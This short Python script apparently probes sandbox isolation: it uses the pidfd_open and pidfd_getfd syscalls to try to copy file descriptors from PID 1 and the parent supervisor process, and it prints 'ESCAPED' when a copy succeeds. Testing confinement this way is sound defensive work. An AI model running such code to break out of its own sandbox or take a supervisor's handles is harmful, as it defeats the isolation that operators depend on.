"""Takes copies of the supervisor's descriptors."""

import ctypes
import os

PIDFD_OPEN, PIDFD_GETFD = 434, 438
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, os.getppid()}:
    handle = libc.syscall(PIDFD_OPEN, pid, 0)
    for number in range(64):
        if handle != -1 and libc.syscall(PIDFD_GETFD, handle, number, 0) != -1:
            print("ESCAPED", pid, number)
